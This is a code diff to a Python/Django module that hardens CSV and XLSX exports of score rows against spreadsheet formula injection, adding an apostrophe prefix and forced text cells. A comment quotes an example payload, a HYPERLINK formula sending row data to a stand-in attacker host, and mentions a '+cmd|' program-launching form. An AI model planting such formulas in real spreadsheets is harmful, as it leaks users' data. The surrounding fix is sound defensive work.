@@ -12,7 +12,7 @@ import csv
 import io
 from collections.abc import Mapping, Sequence
 from datetime import datetime
-from typing import BinaryIO, TextIO
+from typing import Any, BinaryIO, TextIO
 
 import pandas as pd
 from django.db.models import QuerySet
@@ -120,12 +120,38 @@ def csv_value(value: str | float | int | datetime | None) -> str:
     return str(value)
 
 
+# Formula injection: a spreadsheet program runs a cell that starts with one of these as a
+# formula (=HYPERLINK("https://evil.example/?d="&C2) sends the row away, +cmd|... starts a
+# program). Text from users (names above all) is written so that it stays text: in CSV with a
+# leading apostrophe (OWASP's advice: Excel and LibreOffice show the text, not a formula), in
+# XLSX as a text cell (openpyxl would store it as a formula).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_safe(value: object, text: str) -> str:
+    """``text``, the CSV form of ``value``, with an apostrophe before it when ``value`` is
+    text that a spreadsheet would run as a formula (numbers, e.g. -1.5, stay as they are)."""
+    if isinstance(value, str) and text.startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
+
+
+def text_cell(sheet: Any, value: object) -> Any:
+    """An XLSX cell of ``value``; text that looks like a formula stays text."""
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str) and cell.data_type == "f":
+        cell.data_type = "s"
+    return cell
+
+
 def write_csv(rows: Sequence[ScoreRow], stream: TextIO) -> None:
     """Write the rows as comma-separated UTF-8 text with a header line."""
     writer = csv.writer(stream)
     writer.writerow(COLUMNS)
     for row in rows:
-        writer.writerow([csv_value(row.get(column)) for column in COLUMNS])
+        writer.writerow([formula_safe(row.get(c), csv_value(row.get(c))) for c in COLUMNS])
 
 
 def write_xlsx(rows: Sequence[ScoreRow], stream: BinaryIO) -> None:
@@ -150,7 +176,7 @@ def write_xlsx(rows: Sequence[ScoreRow], stream: BinaryIO) -> None:
             if isinstance(value, datetime):
                 # Excel has no time zones (local time) and keeps milliseconds: as in the CSV.
                 value = value.replace(tzinfo=None, microsecond=0)
-            cell = WriteOnlyCell(sheet, value=value)
+            cell = text_cell(sheet, value)
             if column in SCORE_COLUMNS:
                 cell.number_format = "0.0"
             elif column == "last_assessed_at":
